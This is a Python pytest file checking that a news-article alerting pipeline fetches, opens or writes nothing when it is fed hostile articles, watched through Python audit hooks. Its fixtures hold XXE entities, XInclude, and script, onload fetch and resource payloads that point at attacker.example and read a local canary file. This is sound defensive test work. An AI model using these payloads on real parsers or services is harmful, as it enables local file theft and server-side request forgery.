"""No article makes Rasid fetch, open or write anything, from the raw article to the alert.

Heard are the events of Python's runtime (PEP 578). What compiled libraries did by themselves it would not report;
what they wrote would be in the folders that are looked through.
"""

import asyncio
import os
import sys
from pathlib import Path

import orjson
import pytest

from support.command_line import PATIENCE

MET = "Defence Minister Paul Weber met Jordanian Foreign Minister Amal Haddad in Amman on Monday, he said."
ARABIC = "التقى رئيس الوزراء العراقي سامر الجبوري اليوم في بغداد وزير الدفاع الفرنسي بول فيبر."
EXTERNAL = """<!DOCTYPE html [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;
<!ENTITY own SYSTEM "file://CANARY">]>"""
HOSTILE = f"""{EXTERNAL}<html xmlns:xi="http://www.w3.org/2001/XInclude"><head>
<meta http-equiv="refresh" content="0;url=http://attacker.example/refresh"><base href="http://attacker.example/">
<link rel="stylesheet" href="http://attacker.example/style.css"><link rel="preload" href="//attacker.example/font">
<style>@import url("http://attacker.example/import.css"); body {{ background: url(file://CANARY) }}</style>
<script src="http://attacker.example/script.js"></script></head>
<body onload="fetch('http://attacker.example/onload')"><xi:include href="file://CANARY" parse="text"/>
<article><p>{MET} &own; <a href="http://attacker.example/link">more</a> http://attacker.example/plain</p>
<img src="http://attacker.example/pixel.gif" srcset="http://attacker.example/2x.gif 2x">
<iframe src="file://CANARY"></iframe><object data="ftp://attacker.example/object"></object>
<video src="http://attacker.example/v.mp4" poster="http://attacker.example/p.png"></video>
<svg><image href="http://attacker.example/svg"/><use href="http://attacker.example/use#x"/></svg>
<form action="http://attacker.example/form"></form></article></body></html>"""
NINJS = {
    "uri": "http://attacker.example/item",
    "bodies": [{"role": "main", "contentType": "text/html", "value": HOSTILE}],
    "associations": [{"name": "image", "uri": "http://attacker.example/association"}],
    "renditions": [{"name": "main", "href": "file://CANARY"}],
}

SECRET = "a secret of this machine"


def articles(canary: Path) -> bytes:
    whole = [
        {"uri": "urn:html", "body": HOSTILE, "body_type": "text/html", "url": "file://CANARY"},
        {"uri": "http://attacker.example/uri", "body": f"{MET}\nfile://CANARY http://attacker.example/"},
        {
            "uri": "urn:arabic",
            "body": f"{ARABIC} <img src='http://attacker.example/'>",
            "source": "http://attacker.example",
        },
        NINJS,
    ]
    return b"\n".join(orjson.dumps(article).replace(b"CANARY", bytes(canary)) for article in whole)


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    file = tmp_path / "canary"
    file.write_text(SECRET)
    return file


async def read_overheard(canary: Path, home: Path) -> dict[str, dict[str, list[str]]]:
    """What was heard in each phase, and the alerts that came."""
    alone = {"HOME": str(home), "TMPDIR": str(home), "XDG_CACHE_HOME": str(home), "PYTHONDONTWRITEBYTECODE": "1"}
    path = os.pathsep.join([*sys.path, str(Path(__file__).parents[1])])
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "support.overheard",
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        env=os.environ | alone | {"PYTHONPATH": path}, cwd=home,
    )  # fmt: skip
    async with asyncio.timeout(PATIENCE):
        out, errors = await process.communicate(articles(canary))
    assert process.returncode == 0, errors.decode()
    told: dict[str, dict[str, list[str]]] = orjson.loads(out)
    return told


async def test_articles_full_of_addresses_fetch_open_and_write_nothing(canary: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    told = await read_overheard(canary, home)
    assert told["alerts"]
    assert told["heard"]["start"] == [], "something was called or written while tables were loaded"
    assert told["heard"]["reading"] == []
    assert told["heard"]["proof"], "the ear hears nothing"
    assert list(home.iterdir()) == []
    assert SECRET not in str(told["alerts"])
